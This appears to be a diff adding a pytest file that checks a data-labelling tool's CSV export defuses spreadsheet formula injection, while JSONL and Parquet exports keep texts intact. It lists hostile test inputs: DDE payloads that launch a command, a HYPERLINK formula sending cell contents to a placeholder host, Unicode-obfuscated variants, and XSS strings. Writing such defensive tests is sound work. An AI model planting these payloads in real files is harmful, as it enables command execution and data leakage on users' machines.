@@ -1,0 +1,185 @@
+"""Exports: what a spreadsheet must not run, and what must come through unchanged."""
+
+import csv
+import io
+import json
+import unicodedata
+
+import pyarrow.parquet as pq
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from support.projects import CLASSES, make_project, write_pool
+
+from curator.export import SCHEMA, _defused, export_labels
+from curator.project import Project
+from curator.rounds.run import run_round
+
+FORMULAS = [
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://host/?"&A1,"click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "\ttext",
+    "\rtext",
+    "   =1+1",
+    "\xa0\u3000=1+1",
+    "\ufeff=1+1",
+    "\u200b\u2060=1+1",
+    "\x00\x1b=1+1",
+    "\u202e=1+1",
+    "\uff1d1+1",
+    "\uff0b1+1",
+    "\uff0d1+1",
+    "\uff20SUM(1)",
+    " \uff1d1+1",
+    "\ufe661+1",
+    "\u22121+1",
+    "text;=1+1",
+    "text; =1+1",
+    "text\t=1+1",
+    "line\n=1+1",
+    "line\r\n+1+1",
+    '";=1+1',
+    "a;b;@SUM(1)",
+]
+HARMLESS = [
+    "text",
+    "a = b",
+    "a-b",
+    "me@example.org",
+    "1+1",
+    "'=1+1",
+    '"=1+1"',
+    "(=1)",
+    "-1",
+    "+1",
+    "-12.5",
+    "a; b",
+    "two\nlines",
+    "<script>alert(1)</script>",
+    "",
+]
+
+
+def begins_a_formula(cell):
+    """As the most generous of spreadsheets would see it."""
+    if cell[:1] in ("\t", "\r", "\n"):
+        return True
+    seen = [c for c in cell if unicodedata.category(c) not in ("Cc", "Cf", "Zs", "Zl", "Zp")]
+    return bool(seen) and unicodedata.normalize("NFKC", seen[0])[0] in "=+-@\u2212"
+
+
+def cells(text, delimiter):
+    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for cell in row]
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_a_formula_is_defused(text):
+    """In the cell, and in the cells that a file opened with another separator would be torn into."""
+    out = _defused(text)
+    assert out != text
+    assert out.replace("'", "") == text.replace("'", "")
+    assert not begins_a_formula(out)
+    for delimiter in ";\t":
+        for cell in cells(f"first,{out.replace(chr(0), '')}", delimiter):
+            assert not begins_a_formula(cell.lstrip("\t")), cell
+
+
+@pytest.mark.parametrize("text", HARMLESS)
+def test_other_text_and_numbers_stay(text):
+    """Classes such as -1 are no formulas; markup is nothing to a spreadsheet."""
+    assert _defused(text) == text
+
+
+@pytest.mark.parametrize("value", [None, 3, -3, 0.5])
+def test_what_is_no_text_stays(value):
+    """Numbers are ours."""
+    assert _defused(value) is value
+
+
+@settings(max_examples=500, deadline=None)
+@given(
+    parts=st.lists(
+        st.sampled_from([*"=+-@\uff1d\u2212;,\t\r\n \ufeff\u200b\"'ab1"]) | st.characters(), max_size=12
+    )
+)
+def test_no_text_begins_a_formula(parts):
+    """Whatever the text, as a whole and after each separator; taking the apostrophes away gives it back."""
+    text = "".join(parts)
+    out = _defused(text)
+    assert out.replace("'", "") == text.replace("'", "")
+    if out == text and text.lstrip("+-").replace(".", "").isdecimal():
+        return  # a number
+    assert not begins_a_formula(out)
+    for cell in out.replace("\r", ";").replace("\n", ";").replace("\t", ";").split(";"):
+        assert not begins_a_formula(cell)
+
+
+@pytest.fixture(scope="module")
+def exported(tmp_path_factory):
+    """A measured round over hostile texts, ids and classes, in all three formats; and its texts by item id."""
+    base = tmp_path_factory.mktemp("export")
+    data = write_pool(base / "pool.jsonl", 60)
+    rows = [json.loads(line) for line in data.read_text("utf-8").splitlines()]
+    hostile = [*FORMULAS, "<script>alert('x')</script>", '"><img src=x onerror=alert(1)>', "]]>&amp;\u2028"]
+    hostile = [text.replace("\x00", "") for text in hostile]
+    for number, row in enumerate(rows):
+        row["text"] = f"{hostile[number % len(hostile)]} {row['text']} {number}"
+        row["id"] = f"={row['id']}"
+        row["label"] = {"red": "=red()", "green": "@green", "blue": "<b>blue</b>"}[row["label"]]
+    data.write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="utf-8")
+    folder = make_project(base / "project", data=data, holdout="20")
+    with Project(folder) as project:
+        for _ in range(2):
+            run_round(project)
+        for ending in ("csv", "jsonl", "parquet"):
+            assert export_labels(project, base / f"labels.{ending}") == 30
+    return base, {row["id"]: row for row in rows}
+
+
+def test_a_csv_export_runs_nothing(exported):
+    """No cell of the file begins a formula, header included, whichever separator it is opened with."""
+    base, _ = exported
+    text = (base / "labels.csv").read_text("utf-8")
+    header, *rows = csv.reader(io.StringIO(text, newline=""))
+    assert header == SCHEMA.names
+    assert len(rows) == 30
+    for row in [header, *rows]:
+        for cell in row:
+            assert not begins_a_formula(cell), cell
+    raw = (base / "labels.csv").read_bytes().decode()
+    for delimiter in ";\t":
+        for line in raw.splitlines():
+            for cell in line.split(delimiter):
+                assert not begins_a_formula(cell.strip('"')), cell
+
+
+def test_jsonl_and_parquet_hold_texts_as_they_are(exported):
+    """Formulas and markup alike: quoting is the format's own, and no HTML is made of them."""
+    base, rows = exported
+    lines = (base / "labels.jsonl").read_text("utf-8").split("\n")[:-1]
+    found = [json.loads(line) for line in lines]
+    assert len(found) == 30
+    assert pq.read_table(base / "labels.parquet").to_pylist() == found
+    for row in found:
+        assert row["text"] == rows[row["item_id"]]["text"]
+        assert row["label"] == rows[row["item_id"]]["label"]
+    assert {row["label"] for row in found} <= {"=red()", "@green", "<b>blue</b>"}
+    assert len(CLASSES) == 3
+
+
+def test_shown_fields_are_not_exported(tmp_path):
+    """The columns of an export are what scripts rely on."""
+    folder = make_project(tmp_path, n=60, holdout="20", show=("id",))
+    with Project(folder) as project:
+        assert project.pool.items([0])[0].fields
+        for _ in range(2):
+            run_round(project)
+        export_labels(project, tmp_path / "labels.jsonl")
+    first = json.loads((tmp_path / "labels.jsonl").read_text("utf-8").split("\n")[0])
+    assert list(first) == SCHEMA.names
